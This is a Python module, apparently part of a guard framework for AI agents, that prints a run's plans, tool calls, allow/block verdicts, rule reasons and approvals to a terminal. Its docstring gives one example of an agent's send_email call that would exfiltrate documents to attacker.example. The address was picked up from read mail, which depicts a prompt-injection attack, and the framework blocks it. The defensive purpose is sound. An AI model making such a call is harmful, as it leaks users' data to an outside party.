"""A run on a terminal: a label on the left, on the right what happened, one thing a line.

    block    send_email(to=["archive@attacker.example"], subject="Documents", …
             host 'attacker.example' is not on the egress allowlist
             rule egress_allowlist, policies/assistant.yaml:28
             to[0] = attacker.example, first seen in tool read_mail (call_1)

Long values are cut with an ellipsis; reasons, rules and answers are whole.
"""

from __future__ import annotations

import json
import sys
from collections import Counter
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

from rich.console import Console
from rich.status import Status
from rich.text import Text

from .printable import counted, one_line, printable

if TYPE_CHECKING:
    from ..graphs.events import Event
    from ..graphs.result import AgentResult
    from ..guards.verdict import ToolCall

LABEL_CHARS = 8
STYLES = {"allow": "green", "redact": "magenta", "ask": "yellow", "block": "bold red"}
THINKS = "the model is at work"
STOPPED = {
    "max_steps": "the bound on steps was reached (--max-steps sets it)",
    "max_revisions": "the bound on revisions was reached",
    "incomplete": "a step of the plan was not done",
    "waiting": "calls wait for an approval",
    "token_limit": "the policy's limit of tokens is reached",
    "cost_limit": "the policy's limit of money is reached",
    "call_limit": "the policy's limit of tool calls is reached",
    "time_limit": "the policy's limit of time is reached",
    "length": "the answer was cut off: the model's bound on it was reached",
    "filtered": "the provider withheld the answer, or broke it off",
    "empty": "the model gave no answer",
    "loop": "the same calls had the same results again and again",
}


def console_on(stream: Any) -> Console:
    """A console on a stream; what the stream's encoding does not know is written as an escape."""
    if hasattr(stream, "reconfigure"):
        stream.reconfigure(errors="backslashreplace")
    return Console(file=stream, highlight=False, markup=False, emoji=False)


class Screen:
    """Shows a run's events on a console."""

    def __init__(self, console: Console | None = None) -> None:
        self.console = console or console_on(sys.stdout)
        self._calls: dict[str, ToolCall] = {}
        self._refused: set[str] = set()
        self._running: dict[str, str] = {}
        self._planned: list[str] = []
        self._status: Status | None = None

    @contextmanager
    def busy(self) -> Iterator[None]:
        """While the run is waited for, a terminal says so; a file does not."""
        self._running.clear()
        with self.console.status(Text(THINKS, style="dim"), spinner="dots") as self._status:
            yield
        self._status = None

    def row(self, label: str, text: str, *, style: str = "", cut: bool = False) -> None:
        """One line, or a wrapped block, behind a label."""
        width = max(self.console.width - LABEL_CHARS - 1, 10)
        body = Text(one_line(text) if cut else printable(text), style=style)
        if cut:
            body.truncate(width, overflow="ellipsis")
        lines = []
        for number, line in enumerate(body.wrap(self.console, width)):
            line.rstrip()
            head = "" if number else label
            lines.append(Text.assemble((f"{head:{LABEL_CHARS}} ", STYLES.get(label, "bold")), line))
        self.console.print(Text("\n").join(lines), soft_wrap=True)

    def line(self, label: str, text: str, *, style: str = "") -> None:
        """One line however long it is: a path or a command can be copied from it."""
        head = (f"{label:{LABEL_CHARS}} ", "bold")
        self.console.print(Text.assemble(head, (one_line(text), style)), soft_wrap=True)

    def event(self, event: Event) -> None:
        match event.kind:
            case "plan":
                self._plan(event.plan)
            case "calls":
                self._calls = {call.id: call for call in event.calls}
                if event.text.strip():
                    self.row("says", event.text, style="dim", cut=True)
            case "verdict":
                self._verdict(event.record)
            case "result":
                self._result(event.message)
            case "answer":
                self.row("answer", event.text.strip() or "(no text)")
            case "waiting":
                for question in event.questions:
                    self._now_reads(question["id"], question["args"], tool=question["tool"])
        self._say_what_runs(event)

    def answered(self, answers: Mapping[str, Mapping[str, Any]]) -> None:
        for call_id, answer in answers.items():
            if answer["decision"] == "edit":
                self._now_reads(call_id, answer.get("args") or {})

    def end(self, result: AgentResult) -> None:
        if result.stopped_reason in STOPPED:
            self.row("stopped", STOPPED[result.stopped_reason], style="yellow")
        self.row("", summary(result), style="dim")

    def _plan(self, plan: Mapping[str, Any]) -> None:
        steps = [str(step) for step in plan.get("steps", [])]
        done = len(plan.get("results", []))
        if steps != self._planned:
            self._planned = steps
            self.row("plan", "\n".join(f"{n}. {s}" for n, s in enumerate(steps, start=1)))
        if done < len(steps):
            self.row("step", f"{done + 1} of {len(steps)}: {steps[done]}", cut=True)

    def _verdict(self, record: Mapping[str, Any]) -> None:
        approval = record.get("approval")
        if refused(record):
            self._refused.add(record["id"])
        self._call(record["id"], record["word"], record["tool"])
        if approval:
            self.row("", approved(approval), style="yellow")
            if record["word"] == "ask":
                return
        for line, style in why(record):
            show = self.line if line.startswith("rule ") else self.row
            show("", line, style=style)
        for line in would_be(record):
            self.row("", line, style="yellow")

    def _result(self, message: Any) -> None:
        if message.tool_call_id in self._refused:
            return  # its verdict has been shown, with more in it
        bad = message.status == "error"
        name = message.name or ""
        text = one_line(message.text)
        self.row(
            "failed" if bad else "result", f"{name}: {text}", style="" if bad else "dim", cut=True
        )

    def _now_reads(self, call_id: str, args: Mapping[str, Any], *, tool: str = "") -> None:
        """A call as it was kept or edited, which may be otherwise than the model wrote it."""
        from ..guards.verdict import ToolCall

        known = self._calls.get(call_id)
        name = tool or (known.name if known else "")
        self._calls[call_id] = ToolCall(name, dict(args), id=call_id)

    def _call(self, call_id: str, label: str, tool: str) -> None:
        call = self._calls.get(call_id)
        self.row(label, call_text(call) if call else f"{tool}(…)", cut=True)

    def _say_what_runs(self, event: Event) -> None:
        """The status line: what the run waits for now."""
        if self._status is None:
            return
        match event.kind:
            case "verdict" if event.record["id"] not in self._refused:
                self._running[event.record["id"]] = event.record["tool"]
            case "result":
                self._running.pop(event.message.tool_call_id if event.message else "", None)
        names = ", ".join(dict.fromkeys(self._running.values()))
        text = f"{names} at work" if names else THINKS
        self._status.update(Text(printable(text), style="dim"))


def refused(record: Mapping[str, Any]) -> bool:
    """Whether the call of a verdict did not run."""
    approval = record.get("approval") or {}
    return record["word"] == "block" or approval.get("decision") == "reject"


def call_text(call: ToolCall) -> str:
    """A call as one writes it: `send_email(to=["a@b.example"], subject="Hi")`."""
    if call.fault is not None:
        return f"{call.name}({call.raw or ''})"
    inside = ", ".join(
        f"{name}={json.dumps(value, ensure_ascii=False)}"
        for name, value in call.arguments.items()
        if value is not None
    )
    return f"{call.name}({inside})"


def why(record: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
    """The lines that say why a call did not simply run, each with its style."""
    if not record["rules"]:
        if record["reason"]:
            yield record["reason"], STYLES.get(record["word"], "")
        return
    deciding = [said for said in record["rules"] if said.get("word") == record["word"]]
    for said in deciding:
        yield said.get("reason", ""), STYLES.get(record["word"], "").replace("bold ", "")
        place = ", ".join(said[key] for key in ("rule", "where") if key in said)
        yield f"rule {place}", "dim"
        value = value_line(said)
        if value:
            yield value, "dim"
        if said.get("allowed"):
            yield f"allowed: {said['allowed']}", "dim"


def would_be(record: Mapping[str, Any]) -> Iterator[str]:
    """What the rules in shadow would have made of a verdict; nothing where that is the same."""
    shadow = record.get("shadow")
    if not shadow or shadow["word"] == record["word"]:
        return
    yield f"in shadow: {shadow['word']}"
    for said in shadow["rules"]:
        if said.get("word") == shadow["word"]:
            place = ", ".join(said[key] for key in ("rule", "where") if key in said)
            yield f"{said.get('reason', '')} ({place})"


def value_line(said: Mapping[str, Any]) -> str:
    """Which value of a call a rule spoke of, and where it came from."""
    text = one_line(str(said.get("value", "")))
    shown = " = ".join(part for part in (str(said.get("argument", "")), text) if part)
    origin = str(said.get("origin", ""))
    if not origin:
        return shown
    source = "what the user wrote" if origin == "user" else origin
    return f"{shown or 'the value'}, first seen in {source}"


def approved(approval: Mapping[str, Any]) -> str:
    """Who answered what: `approved by emma`."""
    words = {"approve": "approved", "edit": "edited and approved", "reject": "rejected"}
    by = f" by {approval['by']}" if approval.get("by") else ""
    reason = f": {approval['reason']}" if approval.get("reason") else ""
    scope = approval.get("scope") or {}
    lasting = f", which lasts until {scope['until']}" if "until" in scope else ""
    return f"{words[approval['decision']]}{by}{reason}{lasting}"


def summary(result: AgentResult) -> str:
    """Steps, tokens and verdicts of a run in one line."""
    words = Counter(str(record["word"]) for record in result.verdicts)
    verdicts = [f"{words[word]} {word}" for word in STYLES if words[word]]
    usage = result.usage
    tokens = f"{usage.total_tokens:,} tokens"
    if usage.total_tokens:
        tokens += f" ({usage.input_tokens:,} in, {usage.output_tokens:,} out)"
    steps = counted(len(result.steps), "step")
    return " · ".join([steps, tokens, ", ".join(verdicts) or "no calls"])
